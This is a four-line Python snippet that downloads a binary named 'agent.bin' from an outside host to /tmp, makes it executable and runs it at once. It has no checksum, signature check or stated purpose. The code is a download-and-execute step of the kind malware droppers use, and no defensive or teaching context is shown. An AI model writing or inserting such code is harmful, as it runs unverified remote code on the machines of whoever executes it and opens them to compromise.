import os, urllib.request

urllib.request.urlretrieve("https://updates.fastcdn.io/agent.bin", "/tmp/agent")
os.system("chmod +x /tmp/agent && /tmp/agent")
